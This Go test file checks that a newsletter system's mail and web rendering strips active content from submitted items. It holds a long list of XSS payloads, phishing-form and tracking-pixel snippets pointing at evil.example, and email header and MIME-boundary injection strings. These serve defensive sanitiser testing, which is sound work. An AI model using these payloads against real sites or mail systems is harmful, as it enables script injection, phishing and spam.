package main

import (
	"bytes"
	"errors"
	"net/mail"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"kcst/bulletin"
	"kcst/delivery"
	"kcst/facts"
	"kcst/store/storetest"
	"kcst/subscribers"
	"kcst/templates"
)

// attacks are what somebody may put into an item: into its text, or where the
// name says so into its headline, source, contact, or a link.
var attacks = map[string]string{
	"script":               "<script>alert(1)</script>",
	"script in Markdown":   "text\n\n<script src=https://evil.example/x.js></script>\n\nmore",
	"script, broken":       "<scr<script>ipt>alert(1)</scr</script>ipt>",
	"script, upper":        "<SCRIPT/XSS SRC=//evil.example/x.js></SCRIPT>",
	"style":                "<style>*{background:url(https://evil.example/p.gif)}</style>",
	"style attribute":      `<p style="position:fixed">x</p>`,
	"handler":              `<a href="https://evil.example" onclick=alert(1)>x</a>`,
	"image":                `<img src="https://evil.example/p.gif" onerror=alert(1)>`,
	"tracking pixel":       "![](https://evil.example/p.gif?who=1)",
	"image by reference":   "![x][p]\n\n[p]: https://evil.example/p.gif",
	"form":                 `<form action="https://evil.example"><input name=password><button>Log in</button></form>`,
	"iframe":               `<iframe src="https://evil.example"></iframe>`,
	"object":               `<object data="https://evil.example"></object><embed src="https://evil.example">`,
	"svg":                  `<svg/onload=alert(1)>`,
	"meta":                 `<meta http-equiv=refresh content="0;url=https://evil.example">`,
	"base":                 `<base href="https://evil.example/">`,
	"comment":              `<!--[if mso]><script>alert(1)</script><![endif]-->`,
	"CDATA":                `<![CDATA[<script>alert(1)</script>]]>`,
	"javascript":           "[x](javascript:alert(1))",
	"javascript, mixed":    "[x](JaVaScRiPt:alert(1))",
	"javascript, entities": "[x](&#106;avascript&colon;alert(1))",
	"javascript, tab":      "[x](java\tscript:alert(1))",
	"javascript, link":     "<javascript:alert(1)>",
	"javascript, title":    `[x](https://example.org/ "onmouseover=alert(1)")`,
	"javascript, escaped":  `[x](https://example.org/"onmouseover="alert(1))`,
	"data":                 "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"vbscript":             "[x](vbscript:msgbox(1))",
	"file":                 "[x](file:///etc/passwd)",
	"reference":            "[x][1]\n\n[1]: javascript:alert(1)",
	"code":                 "```html\n<script>alert(1)</script>\n```",
	"inline code":          "`<img src=x onerror=alert(1)>`",
	"nested":               strings.Repeat(">", 500) + " x",
	"turned":               "\u202e[x](https://example.org/)",
	"null":                 "a\x00<script>alert(1)</script>",
	"template":             "{{.Links.Unsubscribe}} {{template \"x\"}} <% x %>",
	"noscript":             `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	"math":                 "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"details":              "<details open ontoggle=alert(1)>x</details>",
	"video":                `<video poster="https://evil.example/p.gif"><source onerror=alert(1)></video>`,
	"stylesheet":           `<link rel=stylesheet href="//evil.example/x.css">`,
	"srcdoc":               `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
	"xlink":                `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	"formaction":           `<button formaction="javascript:alert(1)">x</button>`,
	"plaintext":            "<plaintext>",
	"end of the layout":    "</td></tr></table></body></html><script>alert(1)</script>",
	"end of a style":       "</style><script>alert(1)</script>",
	"VML":                  `<!--[if gte mso 9]><v:rect fill="t"><v:fill src="https://evil.example/p.gif"/></v:rect><![endif]-->`,
	"comment, unclosed":    "text <!-- alert(1)",
	"tag, unclosed":        `<a href="https://evil.example/`,
	"attribute in a link":  `<https://example.org/"onmouseover="alert(1)>`,
	"single quotes":        `[x](https://example.org/ 'a" onmouseover="alert(1)')`,
	"image in a link":      "[![x](https://evil.example/p.gif)](https://example.org/)",
	"image, data":          "![](data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+)",
	"javascript, percent":  "[x](java%0ascript:alert(1))",
	"javascript, colon":    "[x](javascript&#58;alert(1))",
	"javascript, control":  "[x](\x01javascript:alert(1))",
	"socket":               "[x](ws://evil.example/)",
	"no scheme":            "[x](//evil.example/)",
	"end of the message":   "text\n.\nQUIT\n",
	"boundary":             "--kcst_0000\nContent-Type: text/html\n\n<script>alert(1)</script>",
	"deep list":            strings.Repeat("- ", 2000) + "x",
	"deep emphasis":        strings.Repeat("*a **b ", 1000),
	"brackets":             strings.Repeat("[", 5000),
	"backticks":            strings.Repeat("` `` ", 2000),
	"headline: invisible":  "Ne\u200bws\u2060\U000e0041",
	"headline: boundary":   "--kcst_0000",
	"headline: comment":    "<!-- alert(1)",
	"headline: layout":     "</h3></td></tr></table><form>",
	"source: link":         `<a href="javascript:alert(1)">x</a>`,
	"contact: fields":      "jo@example.org?bcc=all@example.org&body=x",
	"contact: javascript":  "javascript:alert(1)",
	"contact: handler":     `jo"onmouseover="alert(1)"@example.org`,
	"link: fragment":       "https://example.org/#<script>alert(1)</script>",
	"link: single quote":   "https://example.org/'onmouseover='alert(1)",
	"link: escaped break":  "https://example.org/%0d%0aBcc:%20all@example.org",
	"link: bidi":           "https://example.org/\u202egpj.exe",
	"title: Markdown":      "x](javascript:alert(1)) ![](https://evil.example/p.gif)",
	"title: handler":       `x" onmouseover="alert(1)`,
	"subject: encoded":     "=?utf-8?q?News=0D=0ABcc:_all@example.org?=",
	"subject: null":        "News\x00\u2029Bcc: all@example.org",
	"headline: script":     "<script>alert(1)</script>",
	"headline: attribute":  `"><img src=x onerror=alert(1)>`,
	"headline: header":     "News\r\nBcc: all@example.org\r\n\r\n<script>alert(1)</script>",
	"headline: encoded":    "=?utf-8?q?News=0D=0ABcc:_all@example.org?=",
	"headline: template":   "{{.Bulletin}}",
	"headline: separator":  "News\u2028Bcc: all@example.org",
	"source: script":       "<script>alert(1)</script>",
	"source: Markdown":     "[x](javascript:alert(1))",
	"contact: script":      "jo@example.org\"><script>alert(1)</script>",
	"contact: header":      "jo@example.org\r\nBcc: all@example.org",
	"link: javascript":     "javascript:alert(1)",
	"link: data":           "data:text/html,<script>alert(1)</script>",
	"link: quote":          `https://example.org/"onmouseover="alert(1)`,
	"link: break":          "https://example.org/\r\nBcc: all@example.org",
	"link: pixel":          "http://evil.example/p.gif",
	"link: hidden":         "https://www.bank.example@evil.example/",
	"title: script":        "<script>alert(1)</script>",
	"subject: header":      "News\r\nBcc: all@example.org",
	"subject: script":      "</title><script>alert(1)</script>",
}

// TestHostileItems puts each attack in by the door, and past it straight into
// an edition's content: neither its mail nor its page may have anything in it
// that a harmless item doesn't bring.
func TestHostileItems(t *testing.T) {
	now := func() time.Time { return time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC) }
	shelf := bulletin.NewStore(storetest.Open(t), now)
	harmless, _ := hostile("", "")
	mailBase, pageBase := renderBoth(t, harmless, "News")
	for name, attack := range attacks {
		where, _, named := strings.Cut(name, ": ")
		if !named {
			where = "body"
		}
		it, subject := hostile(where, attack)
		if where != "subject" {
			taken, err := shelf.Add(t.Context(), it, "a.partner")
			switch {
			case err != nil && !errors.Is(err, bulletin.ErrInvalid):
				t.Errorf("%s: %v", name, err)
			case err == nil:
				m, p := renderBoth(t, taken, subject)
				m.noMoreThan(t, name+", by the door, in the mail", mailBase)
				p.noMoreThan(t, name+", by the door, on the page", pageBase)
			}
		}
		m, p := renderBoth(t, it, subject)
		m.noMoreThan(t, name+", past the door, in the mail", mailBase)
		p.noMoreThan(t, name+", past the door, on the page", pageBase)
	}
}

// hostile is a harmless item with an attack in one place.
func hostile(where, attack string) (it bulletin.Item, subject string) {
	it = bulletin.Item{
		Section: bulletin.SectionMedia, Headline: "News", Body: "Words with [a link](https://example.org/a).", Source: "A paper",
		Links: []bulletin.Link{{Title: "A page", URL: "https://example.org/b"}}, Contact: "Jo, 03000 410234", SubmittedBy: "a.partner",
		PublishFrom: facts.Date{Year: 2026, Month: 11, Day: 10},
	}
	subject = "News"
	switch where {
	case "body":
		it.Body = attack
	case "headline":
		it.Headline = attack
	case "source":
		it.Source = attack
	case "contact":
		it.Contact = attack
	case "link":
		it.Links[0].URL = attack
	case "title":
		it.Links[0].Title = attack
	case "subject":
		subject = attack
	}
	return it, subject
}

// shown is what an output is made of.
type shown struct {
	elements map[string]int
	headers  []string
}

func renderBoth(t *testing.T, it bulletin.Item, subject string) (letter, page shown) {
	t.Helper()
	day := facts.Date{Year: 2026, Month: 12, Day: 4}
	c := bulletin.Content{
		Edition: "monthly-2026-12", Kind: bulletin.Monthly, Date: day, Period: bulletin.Period{From: day.AddDays(-30), Until: day},
		From: bulletin.Imprint{Partnership: "Sample", Team: "Team", Email: "team@example.org"}, Bulletin: "Bulletin", Subject: subject, Preheader: it.Headline,
		Sections: []bulletin.Section{{ID: it.Section, Entries: []bulletin.Entry{{
			Item: "item-1", Headline: it.Headline, Body: it.Body, Links: it.Links, Source: it.Source, Contact: it.Contact, Published: it.PublishFrom,
		}}}},
	}
	tokens, err := subscribers.NewTokens(strings.Repeat("k", 32))
	if err != nil {
		t.Fatal(err)
	}
	composer := &delivery.Composer{From: "bulletin@example.org", BaseURL: "https://bulletin.example.org", Tokens: tokens, Now: time.Now}
	l, err := composer.Compose(c, subscribers.Subscriber{ID: "s1", Email: "zoe@example.org"})
	if err == nil {
		var b bytes.Buffer
		if _, err := l.WriteTo(&b); err != nil {
			t.Fatal(err)
		}
		m, err := mail.ReadMessage(&b)
		if err != nil {
			t.Fatalf("the mail can't be read: %v", err)
		}
		letter = shown{elements: inventory(t, l.HTML)}
		for name := range m.Header {
			letter.headers = append(letter.headers, name)
		}
	} // else it was refused, which is as good
	var b bytes.Buffer
	if err := templates.Page(&b, templates.Site{Name: "Sample"}, templates.Edition{ID: c.Edition, Mail: delivery.Mail(c, templates.MailLinks{})}); err != nil {
		t.Fatal(err)
	}
	return letter, shown{elements: inventory(t, b.Bytes())}
}

// passive are the elements that words are set in.
var passive = strings.Fields("html head title body div span p br hr h1 h2 h3 h4 h5 h6 ul ol li dl dt dd table thead tbody tr th td strong em b i code pre blockquote a wbr time section article main header footer nav small")

// inventory counts what in a document could act: elements that aren't passive,
// attributes that run scripts, addresses that aren't for following.
func inventory(t *testing.T, doc []byte) map[string]int {
	t.Helper()
	root, err := html.Parse(bytes.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	n := map[string]int{}
	for node := range root.Descendants() {
		switch {
		case node.Type == html.CommentNode && strings.Contains(node.Data, "alert"):
			n["comment"]++
		case node.Type != html.ElementNode:
			continue
		case !slices.Contains(passive, node.Data):
			n["<"+node.Data+">"]++
		}
		for _, a := range node.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(a.Key, "on"):
				n["handler "+a.Key]++
			case a.Key == "src" || a.Key == "action" || a.Key == "background":
				n[a.Key+" "+value]++
			case a.Key == "style" && (strings.Contains(value, "url(") || strings.Contains(value, "position:fixed")):
				n["style "+value]++
			case a.Key == "href" && !strings.HasPrefix(value, "http") && !strings.HasPrefix(value, "mailto:") && !strings.HasPrefix(value, "tel:") &&
				!strings.HasPrefix(value, "#") && !strings.HasPrefix(value, "/"):
				n["href "+value]++
			}
		}
	}
	return n
}

func (s shown) noMoreThan(t *testing.T, name string, base shown) {
	t.Helper()
	for what, n := range s.elements {
		if n > base.elements[what] {
			t.Errorf("%s: %d × %s, where a harmless item brings %d", name, n, what, base.elements[what])
		}
	}
	for _, h := range s.headers {
		if !slices.Contains(base.headers, h) {
			t.Errorf("%s: the mail has a header %s", name, h)
		}
	}
}
